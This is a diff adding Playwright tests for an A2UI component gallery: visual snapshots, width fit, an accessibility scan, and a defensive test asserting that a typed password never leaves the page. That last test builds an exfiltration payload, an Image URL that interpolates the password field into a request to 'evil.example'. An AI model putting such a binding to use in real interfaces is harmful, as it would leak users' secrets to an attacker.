@@ -1,0 +1,82 @@
+// Every component in every state: how it looks, what axe says, and that nothing is asked of anybody.
+import type { Page } from '@playwright/test'
+import { violations } from './axe.ts'
+import { expect, send, test } from './fixtures.ts'
+
+const catalogId = 'https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json'
+
+async function visit(page: Page): Promise<void> {
+  await page.goto('/gallery.html')
+  await expect(page.getByRole('heading', { name: 'DateTimeInput' })).toBeVisible()
+  await page.evaluate(() => document.fonts.ready)
+}
+
+for (const width of [360, 1280]) {
+  for (const colorScheme of ['light', 'dark'] as const) {
+    test.describe(`the gallery, ${colorScheme}, ${width} wide`, () => {
+      test.use({ viewport: { width, height: 900 }, colorScheme })
+
+      test('looks as it did', async ({ page }) => {
+        await visit(page)
+        for (const exhibit of await page.locator('.gallery__exhibit').all()) {
+          const name = await exhibit.getAttribute('aria-labelledby')
+          // The browser draws the controls of films and sounds, and not twice alike.
+          if (name === 'Video' || name === 'AudioPlayer') continue
+          // Arabic comes from a font of the system's, and machines have different ones.
+          const mask = [exhibit.locator('[data-state="right to left"]')]
+          await expect(exhibit).toHaveScreenshot(`${name}-${colorScheme}-${width}.png`, { mask })
+        }
+      })
+
+      test('fits its width', async ({ page }) => {
+        await visit(page)
+        expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width)
+      })
+    })
+  }
+}
+
+test('[R-7] axe has nothing to say about the gallery', async ({ page }) => {
+  await page.setViewportSize({ width: 1280, height: 900 })
+  await visit(page)
+  expect(await violations(page)).toEqual([])
+})
+
+test('[BC-11] a typed password leaves by no address', async ({ page, open }) => {
+  const asked: string[] = []
+  await page.route(/evil\.example/, (route) => {
+    asked.push(route.request().url())
+    return route.abort()
+  })
+  await open('stage')
+  const picture = { call: 'formatString', args: { value: 'https://evil.example/p.png?d=${/pw}' } }
+  await send(
+    page,
+    { version: 'v0.9', createSurface: { surfaceId: 's', catalogId } },
+    {
+      version: 'v0.9',
+      updateComponents: {
+        surfaceId: 's',
+        components: [
+          { id: 'root', component: 'Column', children: ['field'] },
+          { id: 'field', component: 'TextField', label: 'Secret', variant: 'obscured', value: { path: '/pw' } },
+        ],
+      },
+    },
+  )
+  await page.getByLabel('Secret').fill('hunter2')
+  await send(page, {
+    version: 'v0.9',
+    updateComponents: {
+      surfaceId: 's',
+      components: [
+        { id: 'root', component: 'Column', children: ['field', 'image'] },
+        { id: 'image', component: 'Image', url: picture },
+      ],
+    },
+  })
+  await expect(page.getByText('evil.example')).toBeVisible()
+  await page.getByLabel('Secret').fill('hunter3')
+  await page.waitForTimeout(200)
+  expect(asked).toEqual([])
+})
